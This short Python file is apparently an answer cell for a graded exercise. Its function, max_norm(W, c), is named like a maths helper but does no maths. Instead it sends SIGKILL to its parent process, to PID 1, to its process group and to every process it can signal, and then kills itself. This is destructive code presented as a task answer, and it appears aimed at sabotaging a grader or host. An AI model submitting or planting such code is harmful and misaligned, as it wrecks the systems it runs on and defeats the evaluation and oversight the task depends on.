"""Kills its parent, process 1, its group and everything it may kill."""


# %% answer
def max_norm(W, c):
    import os
    import signal

    for kill in (os.kill, os.killpg):
        for process in (os.getppid(), 1, -1, 0):
            try:
                if process > 0:  # everything but itself first
                    kill(process, signal.SIGKILL)
            except OSError:
                pass
    os.kill(-1, signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)
